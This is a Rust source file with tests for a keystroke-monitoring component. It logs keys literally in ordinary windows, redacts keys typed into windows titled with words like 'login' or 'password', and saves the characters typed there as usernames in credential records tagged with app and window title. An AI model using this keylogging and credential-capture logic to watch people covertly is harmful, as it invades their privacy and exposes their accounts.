//! Sensitive context tracking.
//!
//! Every dequeued key is classified against the foreground window *at the time
//! it is processed*. Keys typed into a window whose title contains one of the
//! configured keywords are forwarded as the redaction token and accumulated;
//! Enter/Return then commits the accumulated characters as the username of a
//! credential record.
//!
//! The keyword match is a plain case-insensitive substring test and is
//! deliberately broad: a title that merely mentions "password" counts.

use crate::collector::types::{Key, NamedKey};
use crate::core::batcher::KeystrokeBatcher;
use crate::foreground::{SharedForeground, WindowSnapshot};
use crate::storage::{CredentialRecord, KeystrokeToken, SharedSecureStore};
use crate::transparency::SharedTransparencyLog;
use std::sync::Arc;
use tracing::{debug, info, warn};
use zeroize::Zeroize;

/// Classification of a processed key.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InputMode {
    Normal,
    Sensitive,
}

/// Case-insensitive substring predicate over window titles.
#[derive(Debug, Clone)]
pub struct SensitivityMatcher {
    keywords: Vec<String>,
}

impl SensitivityMatcher {
    pub fn new<S: AsRef<str>>(keywords: &[S]) -> Self {
        Self {
            keywords: keywords
                .iter()
                .map(|k| k.as_ref().trim().to_lowercase())
                .filter(|k| !k.is_empty())
                .collect(),
        }
    }

    /// Whether `title` marks a sensitive window. Empty titles never do.
    pub fn is_sensitive(&self, title: &str) -> bool {
        if title.is_empty() {
            return false;
        }
        let title = title.to_lowercase();
        self.keywords.iter().any(|k| title.contains(k.as_str()))
    }
}

/// Result of committing a credential entry.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CommitOutcome {
    Sealed,
    Failed,
    /// The accumulator was empty
    Skipped,
}

/// Single-owner state machine run by the queue consumer.
pub struct SensitiveContextTracker {
    matcher: SensitivityMatcher,
    foreground: SharedForeground,
    batcher: Arc<KeystrokeBatcher>,
    store: SharedSecureStore,
    stats: SharedTransparencyLog,
    /// Characters typed into sensitive windows since the last commit
    typed: Vec<Key>,
    mode: InputMode,
    last_window: Option<WindowSnapshot>,
}

impl SensitiveContextTracker {
    pub fn new(
        matcher: SensitivityMatcher,
        foreground: SharedForeground,
        batcher: Arc<KeystrokeBatcher>,
        store: SharedSecureStore,
        stats: SharedTransparencyLog,
    ) -> Self {
        Self {
            matcher,
            foreground,
            batcher,
            store,
            stats,
            typed: Vec::new(),
            mode: InputMode::Normal,
            last_window: None,
        }
    }

    /// Classify and forward one key.
    pub fn handle(&mut self, key: Key) -> InputMode {
        let window = self.foreground.query().ok();
        self.note_window(window.as_ref());

        self.mode = match &window {
            Some(w) if self.matcher.is_sensitive(&w.title) => InputMode::Sensitive,
            _ => InputMode::Normal,
        };

        match self.mode {
            InputMode::Normal => {
                self.batcher.append(KeystrokeToken::literal(&key));
                if key.is_submit() {
                    self.clear_typed();
                }
            }
            InputMode::Sensitive => {
                self.batcher.append(KeystrokeToken::Redacted);
                self.stats.record_key_redacted();
                if key.is_submit() {
                    // Only `Sensitive` is reachable with a window present.
                    if let Some(window) = window {
                        self.commit(window);
                    }
                } else {
                    self.accumulate(key);
                }
            }
        }

        self.stats.record_key_processed();
        self.mode
    }

    /// Edit the entry the way the focused field would: Backspace removes the
    /// last character, other keys without a character leave it unchanged.
    fn accumulate(&mut self, key: Key) {
        if key == Key::Named(NamedKey::Backspace) {
            if let Some(Key::Char(mut c)) = self.typed.pop() {
                c.zeroize();
            }
        } else if let Some(c) = key.as_char() {
            self.typed.push(Key::Char(c));
        }
    }

    /// Seal the accumulated entry, then clear it whatever the outcome.
    fn commit(&mut self, window: WindowSnapshot) -> CommitOutcome {
        if self.typed.is_empty() {
            return CommitOutcome::Skipped;
        }

        let username: String = self.typed.iter().filter_map(Key::as_char).collect();
        self.clear_typed();

        let mut record = CredentialRecord::new(username, window.app, window.title);
        let outcome = match self.store.append(&record) {
            Ok(()) => {
                self.stats.record_credential_sealed();
                info!(app = %record.app, "sensitive input sealed");
                CommitOutcome::Sealed
            }
            Err(e) => {
                self.stats.record_credential_failure();
                warn!(app = %record.app, "failed to store credential entry: {e}");
                CommitOutcome::Failed
            }
        };

        record.username.zeroize();
        outcome
    }

    fn clear_typed(&mut self) {
        for key in &mut self.typed {
            if let Key::Char(c) = key {
                c.zeroize();
            }
        }
        self.typed.clear();
    }

    fn note_window(&mut self, window: Option<&WindowSnapshot>) {
        if self.last_window.as_ref() != window {
            if let Some(w) = window {
                debug!(app = %w.app, "active window changed");
            }
            self.last_window = window.cloned();
        }
    }

    pub fn mode(&self) -> InputMode {
        self.mode
    }

    /// Number of keys held in the accumulator.
    pub fn pending_len(&self) -> usize {
        self.typed.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::foreground::ManualForeground;
    use crate::storage::{MemorySink, MemoryStore, SecureStore, StorageError};
    use crate::transparency::create_shared_log;
    use uuid::Uuid;

    struct FailingStore;

    impl SecureStore for FailingStore {
        fn append(&self, _record: &CredentialRecord) -> Result<(), StorageError> {
            Err(StorageError::IoError("read-only".to_string()))
        }
    }

    struct Harness {
        foreground: Arc<ManualForeground>,
        sink: Arc<MemorySink>,
        batcher: Arc<KeystrokeBatcher>,
        tracker: SensitiveContextTracker,
    }

    fn harness(keywords: &[&str], batch_size: usize, store: SharedSecureStore) -> Harness {
        let foreground = Arc::new(ManualForeground::new());
        let sink = Arc::new(MemorySink::new());
        let stats = create_shared_log();
        let batcher = Arc::new(KeystrokeBatcher::new(
            Uuid::new_v4(),
            batch_size,
            sink.clone(),
            stats.clone(),
        ));
        let tracker = SensitiveContextTracker::new(
            SensitivityMatcher::new(keywords),
            foreground.clone(),
            batcher.clone(),
            store,
            stats,
        );
        Harness {
            foreground,
            sink,
            batcher,
            tracker,
        }
    }

    fn type_str(tracker: &mut SensitiveContextTracker, text: &str) {
        for c in text.chars() {
            tracker.handle(Key::Char(c));
        }
    }

    const ENTER: Key = Key::Named(NamedKey::Enter);

    #[test]
    fn test_matcher_is_case_insensitive_substring() {
        let matcher = SensitivityMatcher::new(&["sign in", "Password"]);
        assert!(matcher.is_sensitive("Sign In — MyApp"));
        assert!(matcher.is_sensitive("Forgot your PASSWORD?"));
        assert!(!matcher.is_sensitive("Inbox - Mail"));
        assert!(!matcher.is_sensitive(""));
    }

    #[test]
    fn test_normal_keys_forwarded_literally() {
        let mut h = harness(&["password"], 10, Arc::new(MemoryStore::new()));
        h.foreground.set("code", "main.rs");

        type_str(&mut h.tracker, "hi");
        h.tracker.handle(ENTER);
        h.batcher.flush(crate::storage::FlushTrigger::Timer);

        assert_eq!(h.sink.flushed_tokens(), vec!["h", "i", "<enter>"]);
        assert_eq!(h.tracker.mode(), InputMode::Normal);
    }

    #[test]
    fn test_sensitive_window_redacts_every_key() {
        let mut h = harness(&["sign in"], 100, Arc::new(MemoryStore::new()));
        h.foreground.set("myapp", "Sign In — MyApp");

        type_str(&mut h.tracker, "secret!");
        h.batcher.flush(crate::storage::FlushTrigger::Timer);

        let tokens = h.sink.flushed_tokens();
        assert_eq!(tokens.len(), 7);
        assert!(tokens.iter().all(|t| t == "[REDACTED]"));
    }

    #[test]
    fn test_enter_commits_username() {
        let store = Arc::new(MemoryStore::new());
        let mut h = harness(&["login"], 100, store.clone());
        h.foreground.set("firefox", "Login - Example");

        type_str(&mut h.tracker, "alice");
        assert_eq!(h.tracker.pending_len(), 5);
        h.tracker.handle(ENTER);

        let records = store.records();
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].username, "alice");
        assert_eq!(records[0].password, "REDACTED");
        assert_eq!(records[0].app, "firefox");
        assert_eq!(records[0].title, "Login - Example");
        assert_eq!(h.tracker.pending_len(), 0);
    }

    #[test]
    fn test_accumulator_cleared_when_store_fails() {
        let mut h = harness(&["login"], 100, Arc::new(FailingStore));
        h.foreground.set("firefox", "Login");

        type_str(&mut h.tracker, "alice");
        h.tracker.handle(ENTER);
        assert_eq!(h.tracker.pending_len(), 0);

        // The next entry starts fresh.
        type_str(&mut h.tracker, "bob");
        assert_eq!(h.tracker.pending_len(), 3);
    }

    #[test]
    fn test_backspace_edits_username() {
        let store = Arc::new(MemoryStore::new());
        let mut h = harness(&["sign in"], 100, store.clone());
        h.foreground.set("firefox", "Sign in");

        type_str(&mut h.tracker, "alicx");
        h.tracker.handle(Key::Named(NamedKey::Backspace));
        h.tracker.handle(Key::Named(NamedKey::Shift));
        type_str(&mut h.tracker, "e");
        assert_eq!(h.tracker.pending_len(), 5);
        h.tracker.handle(ENTER);

        let records = store.records();
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].username, "alice");

        // Every key, Backspace included, still reached the batcher redacted.
        h.batcher.flush(crate::storage::FlushTrigger::Timer);
        assert_eq!(h.sink.flushed_tokens(), vec!["[REDACTED]"; 9]);
    }

    #[test]
    fn test_backspace_on_empty_entry_is_ignored() {
        let store = Arc::new(MemoryStore::new());
        let mut h = harness(&["login"], 100, store.clone());
        h.foreground.set("firefox", "Login");

        h.tracker.handle(Key::Named(NamedKey::Backspace));
        type_str(&mut h.tracker, "x");
        h.tracker.handle(Key::Named(NamedKey::Backspace));
        h.tracker.handle(Key::Named(NamedKey::Backspace));
        assert_eq!(h.tracker.pending_len(), 0);

        h.tracker.handle(ENTER);
        assert!(store.records().is_empty());
    }

    #[test]
    fn test_enter_with_empty_accumulator_commits_nothing() {
        let store = Arc::new(MemoryStore::new());
        let mut h = harness(&["login"], 100, store.clone());
        h.foreground.set("firefox", "Login");

        h.tracker.handle(ENTER);
        h.tracker.handle(Key::Named(NamedKey::Tab));
        h.tracker.handle(ENTER);
        assert!(store.records().is_empty());
        assert_eq!(h.tracker.pending_len(), 0);
    }

    #[test]
    fn test_missing_window_is_not_sensitive() {
        let mut h = harness(&["login"], 100, Arc::new(MemoryStore::new()));
        assert_eq!(h.tracker.handle(Key::Char('x')), InputMode::Normal);

        h.foreground.set("app", "");
        assert_eq!(h.tracker.handle(Key::Char('y')), InputMode::Normal);
    }

    #[test]
    fn test_classification_follows_window_per_key() {
        let mut h = harness(&["password"], 100, Arc::new(MemoryStore::new()));

        h.foreground.set("app", "Enter password");
        h.tracker.handle(Key::Char('s'));
        h.foreground.set("app", "Editor");
        h.tracker.handle(Key::Char('n'));
        h.batcher.flush(crate::storage::FlushTrigger::Timer);

        assert_eq!(h.sink.flushed_tokens(), vec!["[REDACTED]", "n"]);
    }

    #[test]
    fn test_enter_in_normal_window_drops_accumulator() {
        let store = Arc::new(MemoryStore::new());
        let mut h = harness(&["login"], 100, store.clone());

        h.foreground.set("app", "Login");
        type_str(&mut h.tracker, "ali");
        h.foreground.set("app", "Editor");
        h.tracker.handle(ENTER);

        assert_eq!(h.tracker.pending_len(), 0);
        assert!(store.records().is_empty());
    }

    #[test]
    fn test_size_flush_scenario() {
        let mut h = harness(&["password"], 3, Arc::new(MemoryStore::new()));
        h.foreground.set("app", "Enter password");

        type_str(&mut h.tracker, "abc");
        let batches = h.sink.keystrokes();
        assert_eq!(batches.len(), 1);
        assert_eq!(batches[0].len(), 3);
        assert!(batches[0].tokens.iter().all(KeystrokeToken::is_redacted));

        type_str(&mut h.tracker, "de");
        assert_eq!(h.sink.keystrokes().len(), 1);
        assert_eq!(h.batcher.len(), 2);
    }
}
